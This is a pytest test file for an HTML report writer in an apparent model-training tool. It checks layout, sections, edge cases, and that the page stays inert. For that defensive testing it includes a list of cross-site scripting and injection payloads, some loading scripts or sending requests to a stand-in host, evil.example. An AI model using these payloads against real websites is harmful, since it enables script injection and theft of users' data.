from __future__ import annotations

import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from headway.errors import RunError
from headway.report.html import write_report

EditJson = Callable[[Path, Callable[[Any], None]], None]

TAGS = {
    *("html", "head", "meta", "title", "style", "body", "header", "main", "footer", "section", "h1", "h2", "h3", "p"),
    *("div", "span", "b", "strong", "bdi", "small", "code", "pre", "br", "dl", "dt", "dd", "ul", "ol", "li"),
    *("table", "thead", "tbody", "tr", "th", "td", "details", "summary", "figure", "figcaption"),
    *("svg", "g", "path", "line", "circle", "text", "defs", "use", "clippath", "rect"),
}

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><button>x</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "{{ 7*7 }}{% raw %}{{ self.__init__ }}",
    "\u202e<script>alert(1)</script>\u200b",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ud800<script>alert(1)</script>",
    "$\\alpha$<script>\x00alert(1)</script>",
]


class Page(HTMLParser):
    """What a browser would make of a page: its elements, their attributes, and the text it shows."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.ids: list[str] = []
        self.styles = ""
        self.texts: list[str] = []
        self._open: list[str] = []
        self.feed(source)
        self.close()
        assert not self._open, f"left open: {self._open}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_startendtag(tag, attrs)
        if tag not in ("meta", "br"):
            self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        if "style" in self._open:
            self.styles += data
        else:
            self.texts.append(data)

    @property
    def text(self) -> str:
        return " ".join("".join(self.texts).split())

    @property
    def sections(self) -> list[str]:
        return [value for tag, name, value in self.attributes if tag == "section" and name == "id"]


def check_inert(source: str) -> Page:
    """Check that a page can neither run anything nor ask anything of the network."""
    page = Page(source)
    assert page.tags <= TAGS
    for tag, name, value in page.attributes:
        assert not name.startswith("on"), (tag, name, value)
        assert name not in ("src", "srcdoc", "action", "data", "xlink:href", "formaction"), (tag, name, value)
        assert name != "href" or value.startswith("#"), (tag, name, value)
        assert name != "style" or "evil" not in value
        assert not re.search(r"https?:|javascript:|//", value) or (tag == "div" and name == "aria-label"), (tag, value)
    assert "@import" not in page.styles
    assert "http" not in page.styles
    assert "url(" not in page.styles.replace("url(#", "")
    return page


ALL_RUNS = ["binary_run", "many_labels_run", "seven_labels_run", "multi_label_run", "regression_run", "seeds_run"]


@pytest.mark.parametrize("name", ALL_RUNS)
def test_report_is_one_inert_file_and_always_the_same(name: str, request: pytest.FixtureRequest) -> None:
    run: Path = request.getfixturevalue(name)
    path = write_report(run)
    assert path == run / "report.html"
    first = path.read_bytes()
    check_inert(first.decode())
    assert write_report(run).read_bytes() == first
    assert not list(run.glob(".report*"))


def test_sections_stand_in_the_order_of_interest(binary_run: Path) -> None:
    page = Page(write_report(binary_run).read_text())
    expected = ["gain", "metrics", "curves", "confusion", "per-label", "reliability"]
    expected += ["mistakes", "lengths", "checks", "recipe", "repeat"]
    assert page.sections == expected
    text = page.text
    for shown in (
        "Fine-tuning paid: accuracy is 0.881 (0.862 to 0.900), against 0.802 (0.779 to 0.825) for the best baseline "
        "(TF-IDF + logistic regression). The intervals do not overlap.",
        "22.7 million",
        "5 March 2026, 14:02",
        "Expected calibration error (ECE): 0.041",
        "duplicates",
        "1,480",
        "1.3 %",
        "lr_scheduler_type: linear",
        f"headway train {binary_run}/recipe.yaml",
        "53aa51172d142c89d9012cce15ae4d6cc0ca6895895114379cacb4fab128d9db",
        "2.13.0",
        "29 of 60 rows of the test split are wrong",
    ):
        assert shown.lower() in text.lower(), shown
    assert "/home/ada" not in text


def test_recipe_is_shown_to_the_letter(binary_run: Path) -> None:
    recipe = 'task:\n  type: text-classification   # <kept> & "quoted"\n'
    (binary_run / "recipe.yaml").write_text(recipe)
    assert recipe in "".join(Page(write_report(binary_run).read_text()).texts)


def test_many_labels_give_pairs_instead_of_a_matrix(many_labels_run: Path) -> None:
    source = write_report(many_labels_run).read_text()
    assert "Taken for" in source
    assert "<details>" in source
    assert 'class="matrix' not in source
    assert 'class="matrix' in write_report_of_few(many_labels_run)


def write_report_of_few(run: Path) -> str:
    metrics = json.loads((run / "metrics.json").read_text())
    details = metrics["details"]["test"]
    details["confusion"] = {"labels": ["a", "b"], "counts": [[1, 0], [2, 3]]}
    (run / "metrics.json").write_text(json.dumps(metrics))
    return write_report(run).read_text()


def test_multi_label_has_no_confusion_and_says_what_the_probability_means(multi_label_run: Path) -> None:
    page = Page(write_report(multi_label_run).read_text())
    assert "confusion" not in page.sections
    assert "per-label" in page.sections
    assert "of the labels given 0.8, 80 % apply" in page.text
    assert "surest wrong decision" in page.text
    assert "gold none" in page.text


def test_regression_shows_scatter_residuals_and_largest_errors(regression_run: Path) -> None:
    page = Page(write_report(regression_run).read_text())
    assert "scatter" in page.sections
    assert {"confusion", "per-label", "reliability"}.isdisjoint(page.sections)
    assert "Largest errors" in page.text
    assert "−0.980" in page.text
    assert "The same rows chose the checkpoint" in page.text


def test_seeds_are_shown_with_the_selected_and_the_collapsed_one(seeds_run: Path) -> None:
    page = Page(write_report(seeds_run).read_text())
    assert page.sections[:3] == ["gain", "seeds", "metrics"]
    assert "Mean 0.791, standard deviation 0.156, 95 % interval of the mean 0.580 to 0.889." in page.text
    assert "Seed 1 selected" in page.text
    assert "Seed 2 collapsed" in page.text
    assert "1 of 3 seeds collapsed" in page.text
    assert "Duplicates across splits" in page.text


def test_checks_and_recipe_of_a_group_stand_above_its_seeds(seeds_run: Path) -> None:
    (seeds_run / "checks.json").write_text(
        json.dumps({"problems": [], "warnings": [{"name": "only_here", "count": 1, "message": "m", "mend": "n"}]})
    )
    for seed in seeds_run.glob("seed-*"):
        (seed / "checks.json").unlink()
    assert "Only here" in Page(write_report(seeds_run).read_text()).text


def test_collapsed_run_is_said_in_the_title(binary_run: Path, edit_json: EditJson) -> None:
    edit_json(binary_run / "metrics.json", lambda metrics: metrics.update(collapsed=True))
    source = write_report(binary_run).read_text()
    assert 'class="verdict collapsed"' in source
    assert "every row gets the same answer" in source


@pytest.mark.parametrize(
    ("missing", "section"),
    [
        ("checks.json", "checks"),
        ("history.csv", "curves"),
        ("recipe.yaml", "recipe"),
        ("predictions/test.jsonl", "mistakes"),
        ("manifest.json", "lengths"),
        ("model/headway.json", None),
    ],
)
def test_missing_file_shortens_the_report(binary_run: Path, missing: str, section: str | None) -> None:
    before = Page(write_report(binary_run).read_text()).sections
    (binary_run / missing).unlink()
    after = Page(write_report(binary_run).read_text()).sections
    assert after == [one for one in before if one != section]


def test_only_metrics_are_needed(binary_run: Path) -> None:
    for path in sorted(binary_run.rglob("*"), reverse=True):
        if path.is_file() and path.name != "metrics.json":
            path.unlink()
    assert "gain" in Page(write_report(binary_run).read_text()).sections


def test_run_without_baselines_details_and_rows_to_measure_on(binary_run: Path, edit_json: EditJson) -> None:
    def strip(metrics: dict[str, Any]) -> None:
        metrics.update(baselines={}, details={}, metrics={}, loss={})

    edit_json(binary_run / "metrics.json", strip)
    page = Page(write_report(binary_run).read_text())
    assert "Not measured" in page.text
    assert "metrics" not in page.sections


def test_nothing_to_see_is_said(binary_run: Path, edit_json: EditJson) -> None:
    path = binary_run / "predictions" / "test.jsonl"
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    path.write_text("".join(json.dumps({**line, "value": line["gold"]}) + "\n" for line in lines))
    (binary_run / "checks.json").write_text('{"problems": [], "warnings": []}')
    edit_json(
        binary_run / "manifest.json",
        lambda manifest: [tokens.update(tokens_lost=0, rows_truncated=0) for tokens in manifest["tokens"].values()],
    )
    text = Page(write_report(binary_run).read_text()).text
    assert "None: all 60 rows of the test split are right." in text
    assert "The data checks found nothing to complain of." in text
    assert "No token was lost" in text


def test_windows_are_counted(binary_run: Path, edit_json: EditJson) -> None:
    edit_json(
        binary_run / "manifest.json",
        lambda manifest: [
            tokens.update(tokens_lost=0, rows_truncated=0, windows=98_765) for tokens in manifest["tokens"].values()
        ],
    )
    text = Page(write_report(binary_run).read_text()).text
    assert "No token was lost: every text was read whole, in windows" in text
    assert "train 98,765 for 3,610 rows" in text


def poison(value: Any, payload: str, *, keys: bool) -> Any:
    """Put the payload into every text of a JSON value, and before every key of user-made mappings."""
    if isinstance(value, dict):
        return {(payload + key if keys else key): poison(one, payload, keys=keys) for key, one in value.items()}
    if isinstance(value, list):
        return [poison(one, payload, keys=keys) for one in value]
    return payload + value if isinstance(value, str) else value


def poison_run(run: Path, payload: str) -> None:
    """Put a payload wherever a name or a text of the user's stands in a run directory."""
    metrics = json.loads((run / "metrics.json").read_text())
    metric = payload + metrics["main_metric"]
    metrics["main_metric"] = metric
    for scores in [metrics["metrics"], *metrics["baselines"].values()]:
        for split, values in scores.items():
            scores[split] = {payload + name: value for name, value in values.items()}
    metrics["baselines"] = {payload + name: value for name, value in metrics["baselines"].items()}
    metrics["metrics"][payload] = metrics["metrics"]["test"]
    metrics["details"] = poison(metrics["details"], payload, keys=False)
    (run / "metrics.json").write_text(json.dumps(metrics))

    manifest = poison(json.loads((run / "manifest.json").read_text()), payload, keys=False)
    manifest["machine"] = poison(manifest["machine"], payload, keys=True)
    for group in ("data", "tokens"):
        manifest[group][payload] = manifest[group]["train"]
    manifest["tokens"]["train"]["length_quantiles"][payload] = 3
    (run / "manifest.json").write_text(json.dumps(manifest))

    checks = poison(json.loads((run / "checks.json").read_text()), payload, keys=False)
    checks["problems"] = [{"name": payload, "split": payload, "message": payload, "examples": [{payload: payload}]}]
    (run / "checks.json").write_text(json.dumps(checks))

    path = run / "predictions" / "test.jsonl"
    lines = [poison(json.loads(line), payload, keys=False) for line in path.read_text().splitlines()]
    for line in lines:
        line["input"] = {payload: line["input"]["text"], payload + "2": payload}
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    with (run / "recipe.yaml").open("a", errors="replace") as recipe:
        recipe.write(f"\n# {payload}\n")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_the_data_becomes_a_part_of_the_page(binary_run: Path, payload: str) -> None:
    poison_run(binary_run, payload)
    run = binary_run.rename(binary_run.parent / ("run " + re.sub(r"[/\x00\ud800]", "", payload)[:60]))
    page = check_inert(write_report(run).read_text())
    visible = payload.replace("\ud800", "\ufffd").replace("\x00", "\u2400").replace("\x0c", "\u240c")
    assert "".join(page.texts).count(visible) > 50


def test_places_name_files_without_folders_where_that_is_enough(binary_run: Path, edit_json: EditJson) -> None:
    path = binary_run / "predictions" / "test.jsonl"
    path.write_text(path.read_text().replace('"test.csv, ', '"/home/ada/data/test.csv, '))
    source = write_report(binary_run).read_text()
    assert "<bdi>test.csv, line 47</bdi>" in source
    assert "/home/ada" not in source
    edit_json(binary_run / "manifest.json", lambda one: one["data"]["train"].update(source="/home/ada/old/test.csv"))
    assert "<bdi>/home/ada/data/test.csv, line 47</bdi>" in write_report(binary_run).read_text()


def test_page_forbids_scripts_and_requests(binary_run: Path) -> None:
    assert "default-src 'none'; style-src 'unsafe-inline'" in write_report(binary_run).read_text()


def test_texts_that_turn_the_reading_direction_are_isolated(binary_run: Path) -> None:
    path = binary_run / "predictions" / "test.jsonl"
    line = json.loads(path.read_text().splitlines()[0])
    line.update(gold="\u202egold", value="\u202evalue", where="\u202efile.csv", input={"text": "\u202etext"})
    path.write_text(json.dumps(line) + "\n")
    source = write_report(binary_run).read_text()
    assert '<div class="text" dir="auto">\u202etext</div>' in source
    for name in ("gold", "value", "file.csv"):
        assert f"<bdi>\u202e{name}</bdi>" in source


def test_long_text_is_cut_and_says_by_how_much(binary_run: Path) -> None:
    path = binary_run / "predictions" / "test.jsonl"
    line = json.loads(path.read_text().splitlines()[0])
    line.update(gold="negative", value="positive", input={"text": "x" * 1_000_000})
    path.write_text(json.dumps(line) + "\n")
    source = write_report(binary_run).read_text()
    assert "999,400 characters more" in source
    assert len(source) < 200_000


def test_folder_that_is_no_run_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RunError, match=r"expected a run directory.*headway runs") as error:
        write_report(tmp_path)
    assert str(tmp_path) in str(error.value)
    assert error.value.exit_code == 5
